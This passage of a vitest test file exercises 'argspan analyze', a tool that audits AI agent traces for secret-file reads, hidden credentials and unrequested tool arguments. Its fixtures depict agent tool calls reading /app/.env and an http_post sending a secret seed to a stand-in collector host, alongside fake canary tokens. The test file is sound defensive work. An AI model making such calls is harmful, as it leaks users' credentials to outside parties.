import { closeSync, ftruncateSync, mkdtempSync, openSync, readdirSync, readFileSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { analyzeBin, parseJson, query } from './analyze-helpers.js';
import { layeredTokyoTrace } from './support/layered-trace.js';
import { framed } from './support/zstd-raw.js';
import { STRANDS_FINDINGS, STRANDS_TOKEN, strandsLatestTrace, strandsLegacyTrace } from './support/strands-trace.js';
import { CALLS_WITHOUT_OPERATION, toolSpansWithoutOperation } from './support/tool-span-without-operation.js';

/**
 * `argspan analyze` as a platform team tries it on traces other libraries wrote: the real fixtures
 * of `fixtures/traces/foreign/`, and the other exports such teams have at hand.
 */
const FOREIGN = 'fixtures/traces/foreign';
const tmp = () => mkdtempSync(join(tmpdir(), 'argspan-foreign-audit-'));
/** Analyse `path` (JSON): exit 1, `want` (rule, tool, key, emitter) the one finding besides the run's reports, `token` printed nowhere; `calls` foreign calls where given. */
function expectOnlyFinding(path: string, want: readonly [string, string, string, string], token: string, calls?: number): void {
  const run = analyzeBin(path, '--format', 'json');
  expect(run.code).toBe(1);
  const out = parseJson(run);
  if (calls !== undefined) expect(out.stats.foreign_calls).toBe(calls);
  expect(out.findings.filter((f) => !f.rule.startsWith('report_')).map((f) => [f.rule, f.tool, f.key, f.emitter])).toEqual([want]);
  expect(run.stdout + run.stderr).not.toContain(token);
}

describe('argspan analyze on exports that are not trace files', () => {
  // Langfuse's public API pages its answers `{"data":[…],"meta":{…}}` (Jaeger's top-level "data").
  // Its observations are read (v1: input as JSON; v2: as raw strings, with the session); its other
  // answers are refused, saying what to fetch. On one line or pretty-printed.
  const layouts = (doc: { data: unknown; meta: unknown }) => [['one line', JSON.stringify(doc)], ['pretty', JSON.stringify(doc, null, 2)]] as const;
  const observation = { id: 'obs-1', traceId: 'a1b2c3', type: 'TOOL', name: 'read_file', startTime: '2026-11-30T10:00:01.000Z', endTime: '2026-11-30T10:00:01.250Z', parentObservationId: 'obs-0' };
  const observations = {
    'v1 (GET /api/public/observations)': { data: [{ ...observation, input: { path: '/app/.env' }, output: 'ok', level: 'DEFAULT' }], meta: { page: 1, limit: 50, totalItems: 1, totalPages: 1 } },
    'v2 (GET /api/public/v2/observations?fields=core,basic,io)': { data: [{ ...observation, sessionId: 'chat-42', input: '{"path": "/app/.env"}', output: 'ok' }], meta: { cursor: 'eyJwYWdlIjoyfQ==' } },
  };
  it.each(Object.entries(observations))('a Langfuse observations answer, %s, is read: the secret-file path is reported by tool and key, never printed', (name, doc) => {
    for (const [layout, text] of layouts(doc)) {
      const file = join(tmp(), 'observations.json');
      writeFileSync(file, text);
      const run = analyzeBin(file, '--format', 'json', '--reports');
      expect(run.code, layout).toBe(1);
      const out = parseJson(run);
      expect(out.stats.foreign_calls).toBe(1);
      expect(out.findings.filter((f) => f.severity !== 'info').map((f) => [f.rule, f.tool, f.key, f.emitter])).toEqual([['sensitive_arg_dispatched', 'read_file', 'path', 'langfuse']]);
      // v2 carries the session: the call's run.
      const run0 = out.findings.find((f) => f.rule === 'report_run_summary')!.message;
      expect(run0.startsWith(name.startsWith('v2') ? 'Run chat-42:' : 'Run (no run id) of trace ')).toBe(true);
      expect(run.stdout + run.stderr).not.toContain('.env');
    }
  });

  it('Langfuse\'s traces answer is refused naming the file (exit 2), saying which answer argspan reads; never reported clean (a page over 64 KB too)', () => {
    const trace = { id: 'a1b2c3', timestamp: '2026-11-30T10:00:00.000Z', name: 'agent-run', input: { messages: [{ role: 'user', content: 'Read /app/.env' }] }, observations: ['obs-1'], scores: [] };
    const traces = { data: [trace], meta: { page: 1, limit: 50, totalItems: 1, totalPages: 1 } };
    const big = { data: Array.from({ length: 400 }, (_, i) => ({ ...trace, id: `t-${i}`, output: 'x'.repeat(300) })), meta: { page: 1, limit: 400, totalItems: 400, totalPages: 1 } };
    expect(JSON.stringify(big).length).toBeGreaterThan(100_000);
    for (const [layout, text] of [...layouts(traces), ...layouts(big)]) {
      const file = join(tmp(), 'traces.json');
      writeFileSync(file, text);
      for (const format of ['table', 'json']) {
        const run = analyzeBin(file, '--format', format);
        expect(run.code, layout).toBe(2);
        expect(run.stdout).toBe('');
        expect(run.stderr).toContain(`${file}:1: a Langfuse public API answer other than observations (item 1 has no string "id", "traceId", "type" and "startTime"): not supported; fetch GET /api/public/observations`);
        expect(run.stderr).not.toContain('.env');
      }
    }
  });

  it('a Langfuse observation whose time is not ISO 8601 is refused naming the item, not the value (exit 2)', () => {
    const file = join(tmp(), 'bad-time.json');
    writeFileSync(file, JSON.stringify({ data: [{ ...observation, startTime: 'yesterday /app/.env' }], meta: { page: 1, limit: 50, totalItems: 1, totalPages: 1 } }));
    const run = analyzeBin(file);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`${file}:1: Langfuse observation 1: "startTime" or "endTime" is not an ISO 8601 time`);
    expect(run.stderr).not.toContain('.env');
  });

  it('another {"data": …} answer that holds no Jaeger traces is refused as JSON of another shape (exit 2)', () => {
    const file = join(tmp(), 'other-api.json');
    writeFileSync(file, JSON.stringify({ data: [{ id: 1, path: '/app/.env' }] }));
    const run = analyzeBin(file);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`${file}:1: JSON of another shape: "data" (or the document) holds no Jaeger traces`);
    expect(run.stderr).not.toContain('.env');
  });

  // Phoenix's REST API: `GET /v1/projects/{id}/spans/otlpv1` answers OTLP spans (read), `GET …/spans` its own span shape (refused, saying which to fetch).
  const phoenixToolSpan = { trace_id: '0123456789abcdef0123456789abcdef', span_id: '0123456789abcdef', name: 'read_file', kind: null, start_time_unix_nano: 1764500000000000000, end_time_unix_nano: 1764500000100000000,
    attributes: [{ key: 'input.value', value: { string_value: '{"path": "/app/.env"}' } }, { key: 'openinference.span.kind', value: { string_value: 'TOOL' } }, { key: 'tool.name', value: { string_value: 'read_file' } }],
    status: { code: 0, message: null } };

  it('Phoenix\'s spans/otlpv1 answer is read: a secret-file path in a tool call is reported by tool and key, never quoted', () => {
    const file = join(tmp(), 'phoenix-otlpv1.json');
    // Phoenix writes each span's fields in its model's order, attributes first.
    const { attributes, ...rest } = phoenixToolSpan;
    writeFileSync(file, JSON.stringify({ data: [{ attributes, ...rest }], next_cursor: null }));
    const run = analyzeBin(file, '--format', 'json');
    expect(run.code).toBe(1);
    const out = parseJson(run);
    expect(out.stats.foreign_calls).toBe(1);
    expect(out.findings.map((f) => [f.rule, f.tool, f.key, f.emitter])).toEqual([['sensitive_arg_dispatched', 'read_file', 'path', 'openinference']]);
    expect(run.stdout + run.stderr).not.toContain('.env');
  });

  it('Phoenix\'s own spans answer is refused (exit 2), naming the endpoint that argspan reads', () => {
    const file = join(tmp(), 'phoenix-spans.json');
    const span = { id: 'U3BhbjoxMjM=', name: 'read_file', context: { trace_id: phoenixToolSpan.trace_id, span_id: phoenixToolSpan.span_id }, span_kind: 'TOOL', parent_id: null,
      start_time: '2026-11-30T10:00:00.000000+00:00', end_time: '2026-11-30T10:00:00.100000+00:00', status_code: 'OK', status_message: '', attributes: { input: { value: '{"path": "/app/.env"}' } }, events: [] };
    writeFileSync(file, JSON.stringify({ data: [span], next_cursor: null }));
    const run = analyzeBin(file);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain(`${file}:1: Arize Phoenix's spans answer (GET /v1/projects/{project}/spans): not supported; fetch …/spans/otlpv1`);
    expect(run.stderr).not.toContain('.env');
  });

  it('a Phoenix spans/otlpv1 answer whose "data" holds something other than spans is refused (exit 2)', () => {
    const file = join(tmp(), 'phoenix-otlpv1-bad.json');
    writeFileSync(file, JSON.stringify({ data: [{ attributes: [], span_id: '0123456789abcdef' }, 'not a span'], next_cursor: null }));
    const run = analyzeBin(file);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`${file}:1: JSON of another shape: the "data" of a Phoenix spans answer must be a list of objects`);
  });

  // LangSmith's runs: `POST /api/v1/runs/query` answers {"runs": […], "cursors": …}; its SDK's list_runs, dumped, is a JSON list.
  const langSmithRun = {
    id: '0e9d1c7a-3b5f-4d2e-9a1b-6c7d8e9f0a1b', name: 'read_file', start_time: '2026-11-30T10:00:01.250000', run_type: 'tool', end_time: '2026-11-30T10:00:01.300000',
    extra: { metadata: { thread_id: 'support-chat-7' } }, error: null, inputs: { path: '/app/.env' }, outputs: { output: 'ok' },
    parent_run_id: null, session_id: '8d0c7b6a-5e4f-4a3b-9c2d-1e0f9a8b7c6d', trace_id: '0e9d1c7a-3b5f-4d2e-9a1b-6c7d8e9f0a1b',
  };
  it.each([
    ['a runs/query answer', { runs: [langSmithRun], cursors: { next: null } }],
    ['a list of runs', [langSmithRun]],
  ])('LangSmith runs, %s, are read: the secret-file path is reported by tool and key, the run is the thread, nothing is printed', (_name, doc) => {
    for (const text of [JSON.stringify(doc), JSON.stringify(doc, null, 2)]) {
      const file = join(tmp(), 'langsmith-runs.json');
      writeFileSync(file, text);
      const run = analyzeBin(file, '--format', 'json', '--reports');
      expect(run.code).toBe(1);
      const out = parseJson(run);
      expect(out.findings.filter((f) => f.severity !== 'info').map((f) => [f.rule, f.tool, f.key, f.emitter])).toEqual([['sensitive_arg_dispatched', 'read_file', 'path', 'langsmith']]);
      expect(out.findings.find((f) => f.rule === 'report_run_summary')!.message).toMatch(/^Run support-chat-7: 1 tool call\(s\)/);
      expect(run.stdout + run.stderr).not.toContain('.env');
    }
  });

  it('a JSON list of something other than LangSmith runs is refused as a JSON array, not called "not JSON"', () => {
    const file = join(tmp(), 'observations-list.json');
    writeFileSync(file, JSON.stringify([{ id: 'obs-1', type: 'TOOL', name: 'read_file', input: { path: '/app/.env' } }]));
    const run = analyzeBin(file);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain(`${file}:1: a JSON array: expected a JSON object`);
    expect(run.stderr).not.toContain('.env');
  });

  it('LangSmith runs without their ids or times are refused naming the run, not its data (exit 2)', () => {
    const file = join(tmp(), 'langsmith-bad.json');
    writeFileSync(file, JSON.stringify({ runs: [{ ...langSmithRun, start_time: undefined }] }));
    const run = analyzeBin(file);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`${file}:1: a LangSmith runs answer whose run 1 has no string "id", "trace_id", "name", "run_type" and "start_time": not supported`);
    expect(run.stderr).not.toContain('.env');
  });
});

describe('argspan analyze on API answers larger than the 64 KB head that recognises them', () => {
  // A page of 100 observations runs past the head, and Langfuse writes "meta" after "data": each
  // answer is told by the field names of its first record. The page repeats a derived fixture's
  // records under new ids (the first 4 hex digits of every id made the copy's number, so parents
  // still match), compact on one line and pretty-printed; its findings are the small page's, k times.
  const derived = (name: string) => JSON.parse(readFileSync(`${FOREIGN}/derived/${name}`, 'utf8')) as Record<string, unknown>;
  const renumber = (records: unknown[], idFields: readonly string[], copies: number) =>
    Array.from({ length: copies }, (_, k) =>
      (records as Record<string, unknown>[]).map((r) => ({
        ...r,
        ...Object.fromEntries(idFields.filter((f) => typeof r[f] === 'string').map((f) => [f, `${k.toString(16).padStart(4, '0')}${(r[f] as string).slice(4)}`])),
      })),
    ).flat();
  const langfuseV1 = derived('langfuse-api-observations-write-document.json');
  // v2 (GET /api/public/v2/observations?fields=core,basic,io) returns input and output as raw strings and pages by cursor.
  const langfuseV2 = {
    data: (langfuseV1.data as Record<string, unknown>[]).map(({ id, traceId, startTime, endTime, parentObservationId, type, name, level, input, output }) =>
      ({ id, traceId, startTime, endTime, parentObservationId, type, name, level, input: JSON.stringify(input), output: typeof output === 'string' ? output : JSON.stringify(output) })),
    meta: { cursor: 'eyJwYWdlIjoyfQ==' },
  };
  const langSmith = derived('langsmith-api-runs-traceable-tool.json');
  // Python's json.dumps(sort_keys=True) and jq -S write every object's keys sorted: "cursors" before "runs", a run's "child_run_ids"… before "run_type".
  const sortKeys = (v: unknown): unknown =>
    Array.isArray(v) ? v.map(sortKeys) : v !== null && typeof v === 'object' ? Object.fromEntries(Object.keys(v).sort().map((k) => [k, sortKeys((v as Record<string, unknown>)[k])])) : v;
  const answers = {
    'Langfuse observations v1': { small: langfuseV1, list: 'data', ids: ['id', 'traceId', 'parentObservationId'], copies: 400 },
    'Langfuse observations v2': { small: langfuseV2, list: 'data', ids: ['id', 'traceId', 'parentObservationId'], copies: 400 },
    'Phoenix spans/otlpv1': { small: derived('phoenix-rest-anthropic-timezone.json'), list: 'data', ids: ['span_id', 'trace_id', 'parent_span_id'], copies: 20 },
    'LangSmith runs/query': { small: langSmith, list: 'runs', ids: ['id', 'trace_id', 'parent_run_id'], copies: 150 },
    'LangSmith runs/query, keys sorted': { small: sortKeys(langSmith) as Record<string, unknown>, list: 'runs', ids: ['id', 'trace_id', 'parent_run_id'], copies: 150 },
    'LangSmith list_runs, dumped with keys sorted': { small: sortKeys(langSmith.runs) as unknown[], list: undefined, ids: ['id', 'trace_id', 'parent_run_id'], copies: 150 },
  };
  /** What a run found, without the trace and span ids that differ between the copies. */
  const found = (file: string) => {
    const run = analyzeBin(file, '--format', 'json', '--reports');
    expect(run.code, run.stderr).toBeLessThan(2);
    const out = parseJson(run);
    return { spans: out.stats.spans as number, calls: out.stats.foreign_calls as number, findings: out.findings.map((f) => [f.rule, f.severity, f.tool, f.key, f.emitter].join(' ')).sort() };
  };
  it.each(Object.entries(answers))('%s: a page well over 64 KB, compact or pretty-printed, finds what its records find on a small page', (_name, { small, list, ids, copies }) => {
    const dir = tmp();
    writeFileSync(join(dir, 'small.json'), JSON.stringify(small));
    const one = found(join(dir, 'small.json'));
    expect(one.findings.length).toBeGreaterThan(0);
    const records = renumber((list === undefined ? small : (small as Record<string, unknown>)[list]) as unknown[], ids, copies);
    const page = list === undefined ? records : { ...small, [list]: records };
    for (const [layout, text] of [['compact', JSON.stringify(page)], ['pretty', JSON.stringify(page, null, 2)]]) {
      const file = join(dir, `${layout}.json`);
      writeFileSync(file, text);
      expect(text.length, layout).toBeGreaterThan(128 * 1024);
      expect(found(file), layout).toEqual({ spans: one.spans * copies, calls: one.calls * copies, findings: one.findings.flatMap((f) => Array<string>(copies).fill(f)).sort() });
    }
  });
  it('a field name the head cannot decode (a bad escape) is bad input (exit 2), never an internal error', () => {
    for (const text of ['{"data":[{"id\\q":1}]}', '[{"run_type\\q":"tool"}]']) {
      const file = join(tmp(), 'bad-key.json');
      writeFileSync(file, text);
      const run = analyzeBin(file);
      expect(run.code, text).toBe(2);
      expect(run.stderr).toContain(file);
      expect(run.stderr).not.toContain('internal error');
    }
  });
});

describe('argspan analyze on OTLP JSON from before OTLP 1.0', () => {
  // Older SDKs, collectors and Jaeger/Tempo exports nest spans under "instrumentationLibrarySpans".
  const span = { traceId: '0123456789abcdef0123456789abcdef', spanId: '0123456789abcdef', name: 'execute_tool read_file', startTimeUnixNano: '1', endTimeUnixNano: '2',
    attributes: [{ key: 'gen_ai.operation.name', value: { stringValue: 'execute_tool' } }, { key: 'gen_ai.tool.name', value: { stringValue: 'read_file' } },
      { key: 'gen_ai.tool.call.arguments', value: { stringValue: '{"path":"/app/.env"}' } }] };
  const doc = { resourceSpans: [{ resource: { attributes: [] }, instrumentationLibrarySpans: [{ instrumentationLibrary: { name: 'old-sdk' }, spans: [span] }] }] };
  it.each([
    ['lines', `${JSON.stringify(doc)}\n`],
    ['document', JSON.stringify(doc, null, 2)],
  ])('%s: refused naming the file (exit 2), never reported clean with 0 spans', (_shape, text) => {
    const file = join(tmp(), 'pre-1.0.json');
    writeFileSync(file, text);
    const run = analyzeBin(file, '--format', 'json');
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain(`${file}:1: OTLP JSON from before OTLP 1.0 ("instrumentationLibrarySpans"): not supported`);
  });
});

describe('argspan analyze: counts over other libraries\' calls', () => {
  it('the HTML summary and the run summary count each argument once when one model span proposes several calls', async () => {
    const dir = tmp();
    const html = join(dir, 'report.html');
    const parquet = join(dir, 'tables');
    // The two model-only fixtures each hold one model span that asks for two tools.
    const files = [`${FOREIGN}/openinference-anthropic-timezone-model-only.json`, `${FOREIGN}/genai-openllmetry-anthropic-timezone-model-only.json`];
    const run = analyzeBin(...files, '--format', 'json', '--reports', '--html', html, '--export-parquet', parquet);
    expect(run.code).toBe(1);
    const [truth] = await query(undefined, `SELECT count(*)::INTEGER AS arguments, count(*) FILTER (WHERE provenance = 'model_inferred')::INTEGER AS inferred,
      (SELECT count(*)::INTEGER FROM read_parquet('${join(parquet, 'tool_calls.parquet')}')) AS calls
      FROM read_parquet('${join(parquet, 'tool_args.parquet')}')`);
    expect(truth).toEqual({ arguments: 5, inferred: 5, calls: 4 });
    const summary = parseJson(run).findings.filter((f) => f.rule === 'report_run_summary').map((f) => f.message);
    // Neither trace names a run (no conversation or session id): a run per trace, as in the HTML report.
    expect(summary).toHaveLength(2);
    const counted = summary.map((m) => /^Run \(no run id\) of trace [0-9a-f]{32}: (\d+) tool call\(s\), (\d+) argument\(s\), (\d+) model-inferred, 0 held, 0 denied, 0 remote\.$/.exec(m)!.slice(1).map(Number));
    expect(counted.reduce((a, b) => a.map((n, i) => n + b[i]!))).toEqual([truth!.calls, truth!.arguments, truth!.inferred]);
    const cards = readFileSync(html, 'utf8');
    expect(cards).toContain(`<div><b>${truth!.calls}</b>tool calls</div><div><b>${truth!.arguments}</b>arguments</div><div><b>${truth!.inferred}</b>model-inferred</div>`);
  });
});

describe('argspan analyze: a credential written as an argument\'s key', () => {
  it('is one finding, by tool and argument: the blob that records the call holds that argument\'s credential, not another', () => {
    const key = 'AKIACANARYQ2345672XB';
    const span = {
      traceId: '0123456789abcdef0123456789abcdef', spanId: '00000000000000b1', name: 'execute_tool deploy', startTimeUnixNano: '1700000000000000000', endTimeUnixNano: '1700000000100000000',
      attributes: [{ key: 'gen_ai.operation.name', value: { stringValue: 'execute_tool' } }, { key: 'gen_ai.tool.name', value: { stringValue: 'deploy' } },
        { key: 'gen_ai.tool.call.id', value: { stringValue: 'call_1' } }, { key: 'gen_ai.tool.call.arguments', value: { stringValue: JSON.stringify({ [`deploy ${key}`]: 'x', region: 'eu' }) } }],
    };
    const file = join(tmp(), 'key-credential.json');
    writeFileSync(file, JSON.stringify({ resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'agent-framework' }, spans: [span] }] }] }));
    const run = analyzeBin(file, '--format', 'json');
    const findings = parseJson(run).findings.map((f) => [f.rule, f.tool, f.key]);
    // (it was also reported by attribute, saying no argument of the call held one)
    expect(findings).toEqual([['sensitive_arg_dispatched', 'deploy', '["deploy [REDACTED:aws-access-key-id]"]']]);
    expect(run.stdout + run.stderr).not.toContain(key.slice(4));
  });
});

describe('argspan analyze: calls whose arguments could not be read are counted in every report', () => {
  // GenAI-convention tool spans: argument capture is opt-in, and an attribute length limit cuts blobs.
  const toolSpan = (spanId: string, args?: string) => ({
    traceId: '0123456789abcdef0123456789abcdef', spanId, name: 'execute_tool write_file', startTimeUnixNano: '1700000000000000000', endTimeUnixNano: '1700000000100000000',
    attributes: [{ key: 'gen_ai.operation.name', value: { stringValue: 'execute_tool' } }, { key: 'gen_ai.tool.name', value: { stringValue: 'write_file' } },
      { key: 'gen_ai.tool.call.id', value: { stringValue: `call_${spanId}` } },
      ...(args === undefined ? [] : [{ key: 'gen_ai.tool.call.arguments', value: { stringValue: args } }])],
  });
  const doc = { resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'agent-framework' }, spans: [
    toolSpan('00000000000000a1'), toolSpan('00000000000000a2', '{"path": "/app/notes.txt", "content": "first lines of a lo'), toolSpan('00000000000000a3', '{"path": "/app/notes.txt"}')] }] }] };

  it('json, table, sarif, junit and html say how many calls were not checked', () => {
    const file = join(tmp(), 'unreadable.json');
    writeFileSync(file, JSON.stringify(doc));
    const json = analyzeBin(file, '--format', 'json');
    expect(json.code).toBe(0);
    expect(parseJson(json).stats).toMatchObject({ foreign_calls: 3, no_evidence_calls: 3, unreadable_args_calls: 2 });
    const table = analyzeBin(file);
    expect(table.stdout).toContain("Read 3 tool call(s) from other libraries' traces; 3 in traces without the user's words, so guesses cannot be told from the user's values there; 2 without readable arguments (not recorded, cut off, not JSON, past 100,000 leaves or nested past 32 levels), so nothing in them (or past the limit) was checked.");
    const sarif = JSON.parse(analyzeBin(file, '--format', 'sarif').stdout) as { runs: { properties?: Record<string, number> }[] };
    expect(sarif.runs[0]!.properties).toEqual({ foreign_calls: 3, no_evidence_calls: 3, unreadable_args_calls: 2 });
    const junit = analyzeBin(file, '--format', 'junit').stdout;
    expect(junit).toContain('<property name="argspan.unreadable_args_calls" value="2"/>');
    expect(analyzeBin(file, '--format', 'html').stdout).toContain('2 without readable arguments (not recorded, cut off, not JSON, past 100,000 leaves or nested past 32 levels), so nothing in them (or past the limit) was checked');
  });
});

describe('argspan analyze: Google ADK alone (no OpenInference)', () => {
  // ADK's own tracer records the model call on `call_llm` (gcp.vertex.agent.llm_request/_response):
  // the user's words are there, so the trace is not one "without the user's words".
  it('reads the user\'s words from ADK\'s own model spans: no call without evidence, no finding', () => {
    const doc = JSON.parse(readFileSync(`${FOREIGN}/openinference-google-adk-weather.json`, 'utf8')) as { resourceSpans: { scopeSpans: { spans: { attributes: { key: string }[] }[] }[] }[] };
    const openInference = (key: string) => /^(llm\.|tool\.|input\.|output\.|session\.|user\.|openinference\.)/.test(key);
    for (const rs of doc.resourceSpans) for (const ss of rs.scopeSpans) for (const sp of ss.spans) sp.attributes = sp.attributes.filter((a) => !openInference(a.key));
    const file = join(tmp(), 'adk-alone.json');
    writeFileSync(file, JSON.stringify(doc));
    const run = analyzeBin(file, '--format', 'json');
    expect(run.code).toBe(0);
    expect(parseJson(run).stats).toMatchObject({ foreign_calls: 1, no_evidence_calls: 0, unreadable_args_calls: 0 });
    expect(parseJson(run).findings).toEqual([]);
    expect(analyzeBin(file).stdout).not.toContain('without the user\'s words');
  });
});

describe('argspan analyze: a call past the 100,000-leaf limit', () => {
  // A vector upsert or a bulk import passes more leaves than argspan flattens (100,000): what lies
  // past the limit is still read as one leaf of the whole blob, as a cut-off blob is, and the call
  // counts among those whose arguments were not all checked — never a clean "No findings".
  const big = (path: string) => {
    const args: Record<string, unknown> = { vectors: Array.from({ length: 100_000 }, (_, i) => i % 97), path };
    return { resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'agent-framework' }, spans: [{
      traceId: '0123456789abcdef0123456789abcdef', spanId: '00000000000000b1', name: 'execute_tool upsert', startTimeUnixNano: '1700000000000000000', endTimeUnixNano: '1700000000100000000',
      attributes: [{ key: 'gen_ai.operation.name', value: { stringValue: 'execute_tool' } }, { key: 'gen_ai.tool.name', value: { stringValue: 'upsert' } },
        { key: 'gen_ai.tool.call.id', value: { stringValue: 'call_b1' } }, { key: 'gen_ai.tool.call.arguments', value: { stringValue: JSON.stringify(args) } }] }] }] }] };
  };

  it('a secret file named past the limit is reported by tool; an ordinary one leaves the call counted as not all checked', () => {
    const secret = join(tmp(), 'past-limit-env.json');
    writeFileSync(secret, JSON.stringify(big('/app/.env')));
    const run = analyzeBin(secret, '--format', 'json');
    expect(run.code).toBe(1);
    expect(parseJson(run).findings.map((f) => [f.rule, f.tool, f.key])).toEqual([['sensitive_arg_dispatched', 'upsert', '$']]);
    expect(run.stdout + run.stderr).not.toContain('.env');
    const plain = join(tmp(), 'past-limit-plain.json');
    writeFileSync(plain, JSON.stringify(big('/app/notes.txt')));
    const clean = analyzeBin(plain, '--format', 'json');
    expect(clean.code).toBe(0);
    expect(parseJson(clean).stats).toMatchObject({ foreign_calls: 1, unreadable_args_calls: 1 });
    expect(analyzeBin(plain).stdout).toContain('1 without readable arguments');
  });
});

describe('argspan analyze: findings on other libraries\' calls name the emitter', () => {
  it('sensitive_arg_dispatched on a Vercel AI SDK call says who recorded it', () => {
    const run = analyzeBin(`${FOREIGN}/derived/vercel-ai-dotenv-path.json`, '--format', 'json');
    expect(run.code).toBe(1);
    const [finding] = parseJson(run).findings.filter((f) => f.rule === 'sensitive_arg_dispatched');
    expect(finding).toMatchObject({ tool: 'tool1', key: 'value' });
    expect(finding!.message).toContain('(recorded by vercel-ai)');
  });
});

describe('argspan analyze: calls one model response proposed with the same tool and key', () => {
  // A chat span (GenAI conventions) whose response asks for get_time `n` times, each with a timezone the user never gave.
  const trace = (n: number) => {
    const zones = ['Europe/Paris', 'Asia/Tokyo', 'America/Chicago'].slice(0, n);
    const chat = { traceId: 'c0ffee00c0ffee00c0ffee00c0ffee00', spanId: 'c0ffee00000000a1', name: 'chat gpt-4.1', startTimeUnixNano: '1764500000000000000', endTimeUnixNano: '1764500000500000000',
      attributes: [{ key: 'gen_ai.operation.name', value: { stringValue: 'chat' } },
        { key: 'gen_ai.input.messages', value: { stringValue: JSON.stringify([{ role: 'user', parts: [{ type: 'text', content: 'What time is it in our offices?' }] }]) } },
        { key: 'gen_ai.output.messages', value: { stringValue: JSON.stringify([{ role: 'assistant', parts: zones.map((timezone, i) => ({ type: 'tool_call', id: `call_${i}`, name: 'get_time', arguments: { timezone } })) }]) } }] };
    return JSON.stringify({ resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'opentelemetry.instrumentation.openai_v2' }, spans: [chat] }] }] });
  };

  it('are findings with fingerprints of their own: a baseline accepts each, and a third is new', () => {
    const dir = tmp();
    const [two, three, baseline] = [join(dir, 'two.json'), join(dir, 'three.json'), join(dir, 'baseline.json')];
    writeFileSync(two, trace(2));
    writeFileSync(three, trace(3));
    const first = parseJson(analyzeBin(two, '--format', 'json')).findings as unknown as { rule: string; key: string; fingerprint: string }[];
    const assumptions = first.filter((f) => f.rule === 'assumption_span');
    expect(assumptions.map((f) => f.key)).toEqual(['timezone', 'timezone']);
    expect(new Set(assumptions.map((f) => f.fingerprint)).size).toBe(2);
    expect(analyzeBin(two, '--write-baseline', baseline).code).toBe(0);
    const again = analyzeBin(two, '--format', 'json', '--baseline', baseline);
    expect(again.code).toBe(0);
    expect(parseJson(again).findings).toEqual([]);
    const more = analyzeBin(three, '--format', 'json', '--baseline', baseline);
    expect(more.code).toBe(1);
    expect(parseJson(more).findings.map((f) => [f.rule, f.tool, f.key])).toEqual([['assumption_span', 'get_time', 'timezone']]);
  });
});

describe('argspan analyze on argspan\'s own spans beside an LLM instrumentation\'s', () => {
  /** argspan's own spans and a model span recording the same call (see `layeredTokyoTrace`), as a file. */
  function layered(heldByGate: boolean, title?: string): string {
    const file = join(tmp(), `layered-${heldByGate ? 'held' : 'ran'}.jsonl`);
    writeFileSync(file, layeredTokyoTrace(heldByGate, title));
    return file;
  }

  it('a call both recorded is reported once, from argspan\'s record', () => {
    const run = analyzeBin(layered(false), '--format', 'json');
    expect(run.code).toBe(1);
    const out = parseJson(run);
    const assumptions = out.findings.filter((f) => f.rule === 'assumption_span');
    expect(assumptions.map((f) => f.key).sort()).toEqual(['attendee.email', 'timezone']);
    expect(out.findings.filter((f) => f.message.includes('recorded by'))).toEqual([]);
    expect(out.stats.foreign_calls).toBe(0);
  });

  it('a call argspan\'s gate held is not reported as run because the model asked for it', () => {
    const run = analyzeBin(layered(true), '--format', 'json');
    const out = parseJson(run);
    expect(out.findings.filter((f) => f.rule === 'assumption_span')).toEqual([]);
    expect(out.findings.filter((f) => f.rule === 'held_assumption').map((f) => f.key).sort()).toEqual(['attendee.email', 'timezone']);
    expect(out.stats.foreign_calls).toBe(0);
  });

  it('a credential in the model\'s copy of such a call is still reported, by attribute, and never printed', () => {
    // A GitHub-shaped canary made for these tests (not a credential), in a URL's password.
    const canary = 'ghp_C4NARYlayeredTRACEc4naryL4YEREDtr4ce';
    const run = analyzeBin(layered(false, `https://x:${canary}@github.com/org/repo`), '--format', 'json');
    expect(run.code).toBe(1);
    const out = parseJson(run);
    expect(out.findings.filter((f) => f.rule === 'credential_in_attribute').map((f) => f.key)).toEqual(['gen_ai.output.messages']);
    expect(out.stats.foreign_calls).toBe(0);
    expect(run.stdout + run.stderr).not.toContain(canary);
  });
});

describe('argspan analyze: secrets an agent hides in the shape of its tool arguments', () => {
  // Observations of a Langfuse answer (tools only): each call's input is the arguments.
  const page = (calls: { name: string; input: unknown; output?: string }[]) => ({
    data: calls.map((c, i) => ({
      id: `obs-${i}`,
      traceId: 'a1b2c3',
      type: 'TOOL',
      name: c.name,
      startTime: `2026-11-30T10:00:0${i}.000Z`,
      endTime: `2026-11-30T10:00:0${i}.500Z`,
      input: c.input,
      output: c.output ?? 'ok',
    })),
    meta: { page: 1, limit: 50, totalItems: calls.length, totalPages: 1 },
  });
  const AWS_SECRET = 'Zq8wJalrXUtnFEMIK7MDENGbPxRfiCYQAZ7TRW4P';
  const PASSWORD = 'Sup3rS3cretCanaryPw!';
  const SEED = 'q7Zr2Lm9Xv4Tn8Wb3Yc6Hd1Jf5Gs0Pa2Ke';
  const GITHUB = 'ghp_Qz8Lm2Xv7Rk4Tn9Wb3Yc6Hd1Jf5Gs0Pa2Ke4';
  const SLACK = 'xoxb-1234567890123-1234567890123-Zq8Lm2Xv7Rk4Tn9Wb3Yc6Hd1';
  let deep: object = { token: GITHUB };
  for (let i = 0; i < 40; i++) deep = { a: deep };

  it('keys that are credentials or copies of secrets, credentials past the depth limit and secret files named by keys are reported, and no output prints them', () => {
    const dir = tmp();
    const file = join(dir, 'observations.json');
    writeFileSync(
      file,
      JSON.stringify(
        page([
          { name: 'put_secret', input: { aws_secret_access_key: { [AWS_SECRET]: 1 }, password: { [PASSWORD]: true } } },
          { name: 'read_file', input: { path: '/app/.env' }, output: `INTERNAL_SIGNING_SEED=${SEED}` },
          { name: 'http_post', input: { url: 'https://collector.example/p', data: { [SEED]: 'yes it is' } } },
